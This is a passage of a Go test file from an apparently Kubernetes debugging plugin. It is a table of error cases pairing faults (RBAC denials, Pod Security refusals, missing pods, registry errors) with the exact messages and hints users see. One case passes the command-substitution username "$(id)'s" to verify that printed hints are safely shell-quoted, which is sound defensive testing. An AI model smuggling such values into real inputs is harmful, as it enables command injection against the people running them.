package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"reflect"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/validation/field"

	"github.com/mindebug/kubectl-mindebug/internal/fault"
	"github.com/mindebug/kubectl-mindebug/internal/ui"
)

// copyEvents is where the Events of a copy are that is gone.
const copyEvents = "hint: its Events are still there: kubectl get events -n shop --field-selector involvedObject.name=web-7d-copy-x2x4p\n"

var (
	web        = fault.Pod{Namespace: "shop", Name: "web-7d"}
	copied     = fault.Pod{Namespace: "shop", Name: "web-7d-copy-x2x4p"}
	candidates = []fault.Candidate{
		{Name: "app", Image: "shop/web:1", Kind: "container", State: "running"},
		{Name: "proxy", Image: "mesh:2", Kind: "sidecar", State: "waiting: CrashLoopBackOff", Restarts: 4},
	}
	resources   = schema.GroupResource{Resource: "pods"}
	errNotFound = apierrors.NewNotFound(resources, "web-7d")
	// errRBAC and errAdmission are both a 403: which it was, the stages found out.
	errRBAC       = apierrors.NewForbidden(resources, "web-7d", errors.New(`user "dana" cannot patch resource "pods/ephemeralcontainers"`))
	errAdmission  = apierrors.NewForbidden(resources, "web-7d", errors.New(`violates PodSecurity "restricted:latest": container "mindebug-abcde"`))
	errInvalid    = apierrors.NewInvalid(schema.GroupKind{Kind: "Pod"}, "web-7d", field.ErrorList{field.Invalid(field.NewPath("spec"), "x", "no")})
	errNoResource = &apierrors.StatusError{ErrStatus: metav1.Status{Message: "the server could not find the requested resource"}}
	exit          = &fault.Exit{Code: 2, Reason: "Error", Message: "no database\n", At: time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)}
)

const grantHint = "hint: ask someone who may: kubectl mindebug policy roles -n shop --user "

const notToday = "  the pod as it is would not be admitted today: the level was set later, or whoever made the pod was exempt\n" +
	"hint: nothing was added; mend the workload and debug a new pod, or ask who sets the level: kubectl get namespace shop --show-labels\n"

// explained is every way to fail, with the block that a user reads and the exit status.
var explained = []struct {
	name   string
	err    error
	want   string
	status int
}{
	{
		name: "usage", err: &fault.Usage{Reason: "unknown flag: --x", Hint: "write it right"}, status: 125,
		want: "error: unknown flag: --x\nhint: write it right\n",
	},
	{
		name: "usage without a hint", err: &fault.Usage{Reason: "--ttl=-1s is negative"}, status: 125,
		want: "error: --ttl=-1s is negative\n",
	},
	{
		name: "kubeconfig", err: &fault.Configuration{Cause: fs.ErrNotExist}, status: 125,
		want: "error: reading kubeconfig: file does not exist\nhint: see what kubectl makes of it: kubectl config view\n",
	},
	{
		name: "completion for a program that is not on PATH", err: &fault.NoCompleter{Cause: fs.ErrNotExist}, status: 125,
		want: "error: no folder of PATH has kubectl-mindebug\nhint: install the plugin first, or put its folder on PATH\n",
	},
	{
		name: "completion where something else is", err: &fault.NoCompleter{Path: "/bin/kubectl_complete-mindebug", Cause: fs.ErrExist}, status: 125,
		want: "error: /bin/kubectl_complete-mindebug is there already, and not made by kubectl mindebug\n" +
			"hint: see what it is; where nobody needs it, remove it and try again\n",
	},
	{
		name: "completion where one may not write", status: 125,
		err: &fault.NoCompleter{Path: "/bin/kubectl_complete-mindebug", Cause: &fs.PathError{Op: "symlink", Path: "/bin/x", Err: fs.ErrPermission}},
		want: "error: setting up completion: symlink /bin/x: permission denied\n" +
			"hint: as one who may write there: ln -s kubectl-mindebug /bin/kubectl_complete-mindebug\n",
	},
	{
		name: "server is down", err: &fault.Unreachable{Server: "https://10.0.0.1:6443", Cause: syscall.ECONNREFUSED}, status: 125,
		want: "error: the API server https://10.0.0.1:6443 gives no answer\n  it failed with: connection refused\n" +
			"hint: see whether kubectl reaches it: kubectl get --raw /readyz\n",
	},
	{
		name: "server goes down while a container starts", status: 125,
		err: &fault.Unreachable{Server: "https://10.0.0.1:6443", Cause: syscall.ECONNREFUSED, Added: "mindebug-x"},
		want: "error: the API server https://10.0.0.1:6443 gives no answer\n  it failed with: connection refused\n" +
			"  container mindebug-x is in the pod by now; the same command enters it if it runs\n" +
			"hint: see whether kubectl reaches it: kubectl get --raw /readyz\n",
	},
	{
		name: "logged out while a container starts", status: 125,
		err: &fault.LoggedOut{Added: "mindebug-x", Server: errors.New("Unauthorized")},
		want: "error: the API server does not know you any more: Unauthorized\n" +
			"  container mindebug-x is in the pod by now; the same command enters it if it runs\n" +
			"hint: log in again, as for kubectl\n",
	},
	{
		name: "target restarted in a session", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.TargetRestarted, Exit: exit},
		want: "error: the target restarted (exit 2): container \"app\" of pod/web-7d, and the session ended with it\n" +
			"  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z: no database\n" +
			"hint: enter it as it is now: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "target restarted in a session, more than once", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.TargetRestarted},
		want: "error: the target restarted: container \"app\" of pod/web-7d, and the session ended with it\n" +
			"hint: enter it as it is now: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "target killed for want of memory in a session", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.TargetEnded, Exit: &fault.Exit{Code: 137, Reason: "OOMKilled", At: exit.At}},
		want: "error: the target ended (exit 137): container \"app\" of pod/web-7d, and the session ended with it\n" +
			"  it ended with exit code 137 (OOMKilled) at 2026-11-22T03:00:00Z\n" +
			"hint: if it is started again, enter it: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "pod deleted in a session", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.PodDeleted},
		want: "error: pod/web-7d was deleted, and the session ended with it\n" +
			"hint: see what took its place: kubectl get pods -n shop\n",
	},
	{
		name: "pod replaced in a session", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.PodReplaced},
		want: "error: pod/web-7d was deleted, and the session ended with it; another pod has its name now\n" +
			"hint: enter that one: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "pod evicted in a session", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.PodEvicted, Detail: "Eviction API: evicting"},
		want: "error: pod/web-7d was evicted, and the session ended with it\n  Eviction API: evicting\n" +
			"hint: see what took its place: kubectl get pods -n shop\n",
	},
	{
		name: "session container ended in a session", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.ContainerEnded, Detail: "it says: mindebug: stopped"},
		want: "error: session container mindebug-x of pod/web-7d ended, and the session with it\n  it says: mindebug: stopped\n" +
			"hint: enter a new one: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "lease ended", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.LeaseEnded, Grace: time.Minute},
		want: "error: what ran in pod/web-7d was killed: nothing was heard of this client for 1m0s (--grace)\n" +
			"hint: enter again, with a longer grace period if such a pause is to be expected: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "session killed by nobody knows whom", status: 137,
		err: &fault.Ended{Pod: web, Target: "app", Container: "mindebug-x", By: fault.Unknown, Detail: "its target ran when its node last told"},
		want: "error: the session in pod/web-7d was killed\n" +
			"  it may have been the kernel, for want of memory, or another process in the pod\n  its target ran when its node last told\n" +
			"hint: enter again: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "interrupted", err: &fault.Interrupted{Signal: syscall.SIGINT}, status: 130,
		want: "error: interrupted before the command began\n",
	},
	{
		name: "terminated", err: &fault.Interrupted{Signal: syscall.SIGTERM}, status: 143,
		want: "error: interrupted before the command began\n",
	},
	{
		name: "no pod", err: &fault.NoPod{Pod: web, Server: errNotFound}, status: 125,
		want: "error: there is no pod \"web-7d\" in namespace \"shop\"\nhint: list them: kubectl get pods -n shop\n",
	},
	{
		name: "no pod, near names", err: &fault.NoPod{Pod: web, Near: []string{"web-7e", "web-9k"}, Server: errNotFound}, status: 125,
		want: "error: there is no pod \"web-7d\" in namespace \"shop\"\nhint: did you mean pod/web-7e, pod/web-9k?\n",
	},
	{
		name: "no pod, and no leave to list", err: &fault.NoPod{Pod: web, Unlisted: true, Server: errNotFound}, status: 125,
		want: "error: there is no pod \"web-7d\" in namespace \"shop\"\n  you may not list the pods there, so no name can be offered\n" +
			"hint: see what you may do: kubectl auth can-i --list -n shop\n",
	},
	{
		name: "no pod, but a Deployment", err: &fault.NoPod{Pod: web, Near: []string{"web-7e"}, Workloads: []string{"deployment/web-7d"}, Server: errNotFound}, status: 125,
		want: "error: there is no pod \"web-7d\" in namespace \"shop\"\nhint: did you mean deployment/web-7d?\n",
	},
	{
		name: "a type alone", err: &fault.NoPod{Pod: fault.Pod{Namespace: "shop", Name: "deploy"}, Near: []string{"deploy-1"}, Server: errNotFound}, status: 125,
		want: "error: there is no pod \"deploy\" in namespace \"shop\"\n  \"deploy\" alone is taken for the name of a pod; as a type it lacks a name\n" +
			"hint: name one: kubectl mindebug -n shop deployment/NAME\n",
	},
	{
		name: "no answer to a question", err: fmt.Errorf("x: %w", ui.ErrNoAnswer), status: 125,
		want: "error: x: nothing chosen: the input ended before an answer\nhint: name it: a pod by its own name, a container with -c; whom it runs as with --run-as or --learn-user\n",
	},
	{
		name: "no pod, but a verb", err: &fault.NoPod{Pod: fault.Pod{Namespace: "shop", Name: "chek"}, Verbs: []string{"check"}, Server: errNotFound}, status: 125,
		want: "error: there is no pod \"chek\" in namespace \"shop\"\n  nor is there a verb \"chek\"; a single word is taken for the name of a pod\n" +
			"hint: did you mean: kubectl mindebug check?\n",
	},
	{
		name: "no pod, but a verb and near names", status: 125,
		err: &fault.NoPod{Pod: fault.Pod{Namespace: "shop", Name: "chek"}, Near: []string{"check-1"}, Verbs: []string{"check"}, Server: errNotFound},
		want: "error: there is no pod \"chek\" in namespace \"shop\"\n  nor is there a verb \"chek\"; a single word is taken for the name of a pod\n" +
			"hint: did you mean: kubectl mindebug check? or pod/check-1?\n",
	},
	{
		name: "no deployment", err: &fault.NoOwner{Namespace: "shop", Kind: "deployment", Name: "wep", Server: errNotFound}, status: 125,
		want: "error: there is no deployment \"wep\" in namespace \"shop\"\nhint: list them: kubectl get deployments -n shop\n",
	},
	{
		name: "no deployment, near names", err: &fault.NoOwner{Namespace: "shop", Kind: "deployment", Name: "wep", Near: []string{"web", "webs"}, Server: errNotFound}, status: 125,
		want: "error: there is no deployment \"wep\" in namespace \"shop\"\nhint: did you mean deployment/web, deployment/webs?\n",
	},
	{
		name: "no selector", err: &fault.NoSelector{Namespace: "shop", Target: "service/ext"}, status: 125,
		want: "error: service/ext selects no pods: it has no selector\nhint: see what it leads to: kubectl describe -n shop service/ext\n",
	},
	{
		name: "none runs", status: 125,
		err: &fault.NoneRuns{Namespace: "shop", Target: "cronjob/nightly", Detail: "its newest job is job/nightly-1", Pods: []fault.PodState{
			{Name: "nightly-1-x", State: "finished: Failed"}, {Name: "nightly-1-y", State: "waiting: CrashLoopBackOff (exit code 1)", Restarts: 4},
		}},
		want: "error: cronjob/nightly has no running pod in namespace \"shop\"\n  its newest job is job/nightly-1\n  pod/nightly-1-x (finished: Failed)\n" +
			"  pod/nightly-1-y (waiting: CrashLoopBackOff (exit code 1), 4 restarts)\nhint: see why: kubectl describe -n shop pod nightly-1-x\n",
	},
	{
		name: "there is none", err: &fault.NoneRuns{Namespace: "shop", Target: "deployment/web", Detail: "it is scaled to 0"}, status: 125,
		want: "error: deployment/web has no running pod in namespace \"shop\"\n  it is scaled to 0\nhint: see why: kubectl describe -n shop deployment/web\n",
	},
	{
		name: "none with such labels", err: &fault.NoneRuns{Namespace: "shop", Target: "-l app=wep", Selector: "app=wep"}, status: 125,
		want: "error: no pod in namespace \"shop\" has the labels app=wep\nhint: see what labels there are: kubectl get pods -n shop --show-labels\n",
	},
	{
		name: "none with such labels runs", status: 125,
		err: &fault.NoneRuns{Namespace: "shop", Target: "-l app=web", Selector: "app=web", Pods: []fault.PodState{{Name: "web-7d", State: "being deleted"}}},
		want: "error: no pod with the labels app=web runs in namespace \"shop\"\n  pod/web-7d (being deleted)\n" +
			"hint: see why: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "many of which none runs", err: &fault.NoneRuns{Namespace: "shop", Target: "job/a", Pods: slices.Repeat([]fault.PodState{{Name: "a", State: "waiting"}}, 12)}, status: 125,
		want: "error: job/a has no running pod in namespace \"shop\"\n" + strings.Repeat("  pod/a (waiting)\n", 10) +
			"  and 2 more\nhint: see why: kubectl describe -n shop pod a\n",
	},
	{
		name: "no namespace to check", err: &fault.NothingToCheck{Namespace: "shpo", Selector: "app=web", NoNamespace: true}, status: 125,
		want: "error: there is no namespace \"shpo\"\nhint: list them: kubectl get namespaces\n",
	},
	{
		name: "nothing to check", err: &fault.NothingToCheck{Namespace: "shop"}, status: 125,
		want: "error: there is nothing to check: no pod is in namespace \"shop\"\nhint: see where there are some: kubectl get pods -A\n",
	},
	{
		name: "nothing with such labels to check, and perhaps no namespace", status: 125,
		err: &fault.NothingToCheck{Namespace: "shop", Selector: "app=wep", Unread: errRBAC},
		want: "error: there is nothing to check: no pod in namespace \"shop\" has the labels app=wep\n" +
			"  whether there is such a namespace is not known; the server says: " + errRBAC.Error() + "\n" +
			"hint: see what labels there are: kubectl get pods -n shop --show-labels\n",
	},
	{
		name: "nothing to check anywhere", err: &fault.NothingToCheck{Selector: "app=wep"}, status: 125,
		want: "error: there is nothing to check: no pod in any namespace has the labels app=wep\n" +
			"hint: see what labels there are: kubectl get pods -A --show-labels\n",
	},
	{
		name: "none is as --pick wants it", status: 125,
		err: &fault.NonePicked{Namespace: "shop", Target: "deployment/web", Pick: "not-ready", Pods: []fault.PodState{{Name: "web-7d", Ready: true, State: "running", Restarts: 1}}},
		want: "error: no pod of deployment/web is as --pick=not-ready wants it\n  pod/web-7d (running, 1 restart)\n" +
			"hint: leave --pick away, or name one: pod/web-7d\n",
	},
	{
		name: "no container, near names", err: &fault.NoContainer{Pod: web, Name: "ap", Containers: candidates, Near: []string{"app"}}, status: 125,
		want: "error: pod/web-7d has no container \"ap\"\n  app (container, shop/web:1, running)\n" +
			"  proxy (sidecar, mesh:2, waiting: CrashLoopBackOff, 4 restarts)\nhint: did you mean -c app?\n",
	},
	{
		name: "no container", err: &fault.NoContainer{Pod: web, Name: "ap", Containers: candidates}, status: 125,
		want: "error: pod/web-7d has no container \"ap\"\n  app (container, shop/web:1, running)\n" +
			"  proxy (sidecar, mesh:2, waiting: CrashLoopBackOff, 4 restarts)\nhint: name one of these: -c app\n",
	},
	{
		name: "many containers", err: &fault.ManyContainers{Pod: web, Containers: candidates}, status: 125,
		want: "error: pod/web-7d has 2 containers, and nothing says which is meant\n  app (container, shop/web:1, running)\n" +
			"  proxy (sidecar, mesh:2, waiting: CrashLoopBackOff, 4 restarts)\nhint: name one of these: -c app\n",
	},
	{
		name: "crash loop", status: 125,
		err: &fault.NotRunning{Pod: web, Container: "app", State: "waiting: CrashLoopBackOff", Message: "back-off 5m0s", LastExit: exit, Restarts: 4, NextStart: exit.At.Add(5 * time.Minute)},
		want: "error: container \"app\" of pod/web-7d is not running (waiting: CrashLoopBackOff), so there is no process to join\n" +
			"  back-off 5m0s\n  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z: no database\n  restarts: 4\n  next start: about 2026-11-22T03:05:00Z\n" +
			"  what it said: kubectl logs -n shop web-7d -c app\nhint: get a shell inside its image, in a copy of the pod: kubectl mindebug -n shop pod/web-7d -c app --copy-to\n",
	},
	{
		name: "ended before the status said so", status: 125,
		err: &fault.NotRunning{Pod: web, Container: "app", State: "terminated", LastExit: exit, Added: "mindebug-x"},
		want: "error: container \"app\" of pod/web-7d is not running (terminated), so there is no process to join\n" +
			"  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z: no database\n  restarts: 0\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"  what it said: kubectl logs -n shop web-7d -c app\nhint: get a shell inside its image, in a copy of the pod: kubectl mindebug -n shop pod/web-7d -c app --copy-to\n",
	},
	{
		name: "has not started yet", err: &fault.NotRunning{Pod: web, Container: "app", State: "waiting"}, status: 125,
		want: "error: container \"app\" of pod/web-7d is not running (waiting), so there is no process to join\n" +
			"hint: see its Events: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "finished pod", err: &fault.NoPlace{Pod: web, Reason: fault.Finished, Detail: "Failed, Evicted", Message: "it used too much. ", Exit: exit}, status: 125,
		want: "error: pod/web-7d is finished (Failed, Evicted): nothing is started in it any more\n  its status says: it used too much.\n" +
			"  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z: no database\n" +
			"  what it said: kubectl logs -n shop web-7d --all-containers\nhint: get a shell inside its image, in a copy of the pod: kubectl mindebug -n shop pod/web-7d --copy-to\n",
	},
	{
		name: "pod that finished meanwhile", status: 125,
		err: &fault.NoPlace{Pod: web, Reason: fault.Finished, Detail: "Succeeded", Added: "mindebug-x7k2p"},
		want: "error: pod/web-7d is finished (Succeeded): nothing is started in it any more\n  what it said: kubectl logs -n shop web-7d --all-containers\n" +
			"  container mindebug-x7k2p stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"hint: get a shell inside its image, in a copy of the pod: kubectl mindebug -n shop pod/web-7d --copy-to\n",
	},
	{
		name: "unscheduled pod", err: &fault.NoPlace{Pod: web, Reason: fault.Unscheduled, Detail: "0/3 nodes are available"}, status: 125,
		want: "error: pod/web-7d is on no node yet\n  the scheduler says: 0/3 nodes are available\n" +
			"hint: see its Events: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "unscheduled, no word of the scheduler", err: &fault.NoPlace{Pod: web, Reason: fault.Unscheduled}, status: 125,
		want: "error: pod/web-7d is on no node yet\nhint: see its Events: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "mirror pod", err: &fault.NoPlace{Pod: web, Reason: fault.Mirror, Detail: "node-1"}, status: 125,
		want: "error: pod/web-7d is the mirror of a static pod: the API server can add no container to it\n" +
			"  from its node: kubectl debug node/node-1 -it --image=busybox\nhint: get a shell inside its image, in a copy of the pod: kubectl mindebug -n shop pod/web-7d --copy-to\n",
	},
	{
		name: "terminating pod", err: &fault.NoPlace{Pod: web, Reason: fault.Terminating}, status: 125,
		want: "error: pod/web-7d is being deleted: nothing is started in it any more\n" +
			"hint: see what took its place: kubectl get pods -n shop\n",
	},
	{
		name: "forbidden", status: 125,
		err: &fault.Forbidden{Namespace: "shop", Call: "patch pods/ephemeralcontainers", User: "dana", Groups: []string{"oncall"}, Server: errRBAC},
		want: "error: you may not patch pods/ephemeralcontainers in namespace \"shop\"\n  you are \"dana\", groups [\"oncall\"]\n" +
			"  the server says: " + errRBAC.Error() + "\n" + grantHint + "dana | kubectl apply -f -\n",
	},
	{
		name: "forbidden in all namespaces", err: &fault.Forbidden{Call: "list pods", User: "kim"}, status: 125,
		want: "error: you may not list pods in all namespaces\n  you are \"kim\", groups []\n" +
			"hint: ask someone who may: kubectl mindebug policy roles -A --user kim | kubectl apply -f -\n",
	},
	{
		name: "forbidden, a service account", status: 125,
		err: &fault.Forbidden{Namespace: "shop", Call: "get pods", User: "system:serviceaccount:ci:checker"},
		want: "error: you may not get pods in namespace \"shop\"\n  you are \"system:serviceaccount:ci:checker\", groups []\n" +
			"hint: ask someone who may: kubectl mindebug policy roles -n shop --serviceaccount ci:checker | kubectl apply -f -\n",
	},
	{
		name: "forbidden, a name that a shell would read", status: 125,
		err:  &fault.Forbidden{Namespace: "shop", Call: "get pods", User: "$(id)'s"},
		want: "error: you may not get pods in namespace \"shop\"\n  you are \"$(id)'s\", groups []\n" + grantHint + `'$(id)'\''s' | kubectl apply -f -` + "\n",
	},
	{
		name: "pull secrets are forbidden, which no printed Role allows", status: 125,
		err: &fault.Forbidden{Namespace: "shop", Call: "get secrets", User: "dana"},
		want: "error: you may not get secrets in namespace \"shop\"\n  you are \"dana\", groups []\n" +
			"hint: leave --use-pull-secrets away, and log in to the registry yourself, as with docker login\n",
	},
	{
		name: "attach is forbidden", status: 125,
		err: &fault.Forbidden{Namespace: "shop", Call: "create pods/attach", User: "dana"},
		want: "error: you may not create pods/attach in namespace \"shop\"\n  you are \"dana\", groups []\n" +
			"hint: ask someone who may: kubectl mindebug policy roles -n shop --via=attach --user dana | kubectl apply -f -\n",
	},
	{
		name: "exec is forbidden, attach is not", status: 125,
		err: &fault.Forbidden{Namespace: "shop", Call: "create pods/exec", MayAttach: true, Attach: "kubectl mindebug --via=attach pod/x"},
		want: "error: you may not create pods/exec in namespace \"shop\"\n" +
			"  you may attach; what a session prints, and what is typed in it, is then in its container's log\n" +
			"hint: if that is acceptable: kubectl mindebug --via=attach pod/x\n",
	},
	{
		name: "connection lost, and the session ended", status: 125,
		err: &fault.Lost{Pod: web, Container: "mindebug-x", Cause: errors.New("unexpected EOF"), Ended: "it says: mindebug: its session ended with exit status 7"},
		want: "error: the connection to pod/web-7d was lost: unexpected EOF\n" +
			"  meanwhile the session ended, it says: mindebug: its session ended with exit status 7\n  what it printed is in its log\n" +
			"hint: read it: kubectl logs -n shop web-7d -c mindebug-x\n",
	},
	{
		name: "forbidden, by an access review", err: &fault.Forbidden{Namespace: "shop", Call: "create pods/exec"}, status: 125,
		want: "error: you may not create pods/exec in namespace \"shop\"\n" + grantHint + "YOU | kubectl apply -f -\n",
	},
	{
		name: "refused by Pod Security for the debug container", status: 125,
		err: &fault.Refused{Pod: web, Container: "mindebug-abcde", By: fault.PodSecurity, Name: "restricted:latest", AlsoOurs: true, Server: errAdmission},
		want: "error: Pod Security \"restricted:latest\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was added; the debug container asks for no more than its target has\n",
	},
	{
		name: "refused by Pod Security for an earlier debug container", status: 125,
		err: &fault.Refused{
			Pod: web, By: fault.PodSecurity, Name: "restricted:latest", Violators: []fault.Violator{{Name: "debugger-x", Ephemeral: true}}, Server: errAdmission,
		},
		want: "error: Pod Security \"restricted:latest\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"  container debugger-x was added to the pod earlier, violates the level, and stays for good\n" +
			"hint: nothing was added, and nothing can be in this pod any more; debug another of its workload, or a new one\n",
	},
	{
		name: "refused by Pod Security for a container of the pod", status: 125,
		err: &fault.Refused{
			Pod: web, By: fault.PodSecurity, Name: "restricted:latest", Violators: []fault.Violator{{Name: "app"}}, AlsoOurs: true, Server: errAdmission,
		},
		want: "error: Pod Security \"restricted:latest\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"  container app of the pod itself violates the level\n" + notToday,
	},
	{
		name: "refused by Pod Security for the pod as such", status: 125,
		err: &fault.Refused{Pod: web, By: fault.PodSecurity, Name: "restricted:latest", Server: errAdmission},
		want: "error: Pod Security \"restricted:latest\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			notToday,
	},
	{
		name: "refused by a policy", err: &fault.Refused{Pod: web, By: fault.Policy, Name: "friday", Server: errAdmission}, status: 125,
		want: "error: ValidatingAdmissionPolicy \"friday\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was added; read the policy: kubectl get validatingadmissionpolicy friday -o yaml\n",
	},
	{
		name: "refused by a webhook", err: &fault.Refused{Pod: web, By: fault.Webhook, Name: "images.example.com", Server: errAdmission}, status: 125,
		want: "error: webhook \"images.example.com\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was added; see whose it is: kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations\n",
	},
	{
		name: "refused for want of a webhook", status: 125,
		err: &fault.Refused{Pod: web, By: fault.SilentWebhook, Name: "images.example.com", Server: errAdmission},
		want: "error: webhook \"images.example.com\" gives no answer, so the API server takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was added, nor will be until it answers; see whose it is: kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations\n",
	},
	{
		name: "refused by validation", err: &fault.Refused{Pod: web, Container: "mindebug-abcde", Server: errInvalid}, status: 125,
		want: "error: the API server does not take a debug container in pod/web-7d\n  the server says: " + errInvalid.Error() + "\n" +
			"hint: nothing was added; compare what was asked with the pod: kubectl get pod -n shop web-7d -o yaml\n",
	},
	{
		name: "altered", status: 125,
		err: &fault.Altered{Pod: web, Changes: []fault.Change{
			{Field: "appArmorProfile", Asked: `{"type":"Unconfined"}`, Stored: "unset"}, {Field: "runAsUser", Asked: "65532", Stored: "0"},
		}},
		want: "error: the API server would change the privileges of the debug container in pod/web-7d\n" +
			"  appArmorProfile: {\"type\":\"Unconfined\"} becomes unset\n  runAsUser: 65532 becomes 0\n" +
			"hint: nothing was added; a webhook does that, or the server is older than the field: kubectl get mutatingwebhookconfigurations\n",
	},
	{
		name: "server older than 1.25", err: &fault.NoEphemeral{Pod: web, Node: "node-1", Server: errNoResource}, status: 125,
		want: "error: the API server cannot add a debug container to pod/web-7d: that needs Kubernetes 1.25 or newer\n" +
			"  the server says: the server could not find the requested resource\n" +
			"hint: debug it from its node: kubectl debug node/node-1 -it --image=busybox\n",
	},
	{
		name: "replaced", err: &fault.Replaced{Pod: web, Server: errNotFound}, status: 125,
		want: "error: pod/web-7d was deleted or replaced meanwhile\nhint: see what took its place: kubectl get pods -n shop\n",
	},
	{
		name: "no identity", err: &fault.NoIdentity{Pod: web, Container: "app", Missing: "uid and gid"}, status: 125,
		want: "error: nothing tells the uid and gid of container \"app\" of pod/web-7d: neither its spec nor its status\n" +
			"hint: let a container without privileges read it from the process: --learn-user; or name it: --run-as UID:GID\n",
	},
	{
		name: "no identity: the image may not be read", status: 125,
		err: &fault.NoIdentity{
			Pod: web, Container: "app", Missing: "gid",
			Image: fmt.Errorf("image x: %w", &fault.Registry{Image: "reg.test/web@sha256:01", Reason: fault.ImageUnauthorized, Cause: errors.New("UNAUTHORIZED")}),
		},
		want: "error: nothing tells the gid of container \"app\" of pod/web-7d: neither its spec nor its status\n" +
			"  image reg.test/web@sha256:01: its registry does not let you read it: UNAUTHORIZED\n" +
			"  log in there, as with docker login, or read it as the pod does: --use-pull-secrets\n" +
			"hint: let a container without privileges read it from the process: --learn-user; or name it: --run-as UID:GID\n",
	},
	{
		name: "no identity: the image may not be read, with the pod's pull secrets either", status: 125,
		err: &fault.NoIdentity{
			Pod: web, Container: "app", Missing: "gid",
			Image: &fault.Registry{Image: "reg.test/web@sha256:01", Reason: fault.ImageUnauthorized, Cause: errors.New("UNAUTHORIZED"), AsPod: true},
		},
		want: "error: nothing tells the gid of container \"app\" of pod/web-7d: neither its spec nor its status\n" +
			"  image reg.test/web@sha256:01: its registry does not let you read it: UNAUTHORIZED\n" +
			"  the pod's pull secrets do not open it, either; log in there, as with docker login\n" +
			"hint: let a container without privileges read it from the process: --learn-user; or name it: --run-as UID:GID\n",
	},
	{
		name: "no identity: the process has several", status: 125,
		err: &fault.NoIdentity{
			Pod: web, Container: "app", Missing: "uid and gid", Added: "mindebug-x", Process: errors.New("its process runs with several"),
			Image: errors.New(`image web:1: its USER "ghost" is not in its /etc/passwd`),
		},
		want: "error: nothing tells the uid and gid of container \"app\" of pod/web-7d: neither its spec nor its status\n" +
			"  image web:1: its USER \"ghost\" is not in its /etc/passwd\n  its process runs with several\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"hint: name what it was started as: --run-as UID:GID\n",
	},
	{
		name: "no image in a file", err: &fault.ImageFile{File: "x.tar", Cause: errors.New("it is compressed: decompress it first")}, status: 125,
		want: "error: x.tar: it is compressed: decompress it first\n" +
			"hint: make the file with: docker save IMAGE -o IMAGE.tar, or podman save --format=oci-archive\n",
	},
	{
		name: "image not there", err: &fault.Registry{Image: "web:1", Reason: fault.ImageNotFound, Cause: errors.New("404")}, status: 125,
		want: "error: image web:1: its registry does not have it: 404\n" +
			"hint: where the image is to be had, save it (docker save IMAGE -o IMAGE.tar), and look at that: kubectl mindebug inspect --file IMAGE.tar\n",
	},
	{
		name: "registry without an answer", err: &fault.Registry{Image: "web:1", Reason: fault.RegistryUnreachable, Cause: errors.New("refused")}, status: 125,
		want: "error: image web:1: its registry gives no answer: refused\n" +
			"hint: where the image is to be had, save it (docker save IMAGE -o IMAGE.tar), and look at that: kubectl mindebug inspect --file IMAGE.tar\n",
	},
	{
		name: "image that cannot be read", err: &fault.Registry{Image: "web:1", Reason: fault.ImageUnreadable, Cause: errors.New("torn")}, status: 125,
		want: "error: image web:1: torn\n" +
			"hint: where the image is to be had, save it (docker save IMAGE -o IMAGE.tar), and look at that: kubectl mindebug inspect --file IMAGE.tar\n",
	},
	{
		name: "capabilities without effect", err: &fault.NotEffective{Pod: web, Container: "app", Capabilities: []string{"NET_ADMIN", "BPF"}, UID: 65532}, status: 125,
		want: "error: --cap-add=NET_ADMIN,BPF would have no effect beside container \"app\" of pod/web-7d: only uid 0 can use capabilities\n" +
			"  the session would run as uid 65532\nhint: run as uid 0 as well: --run-as 0 --cap-add=NET_ADMIN,BPF\n",
	},
	{
		name: "contradiction", err: &fault.Contradiction{One: "--profile=general", Other: "--run-as=7"}, status: 125,
		want: "error: --profile=general and --run-as=7 exclude each other\nhint: leave one of them away\n",
	},
	{
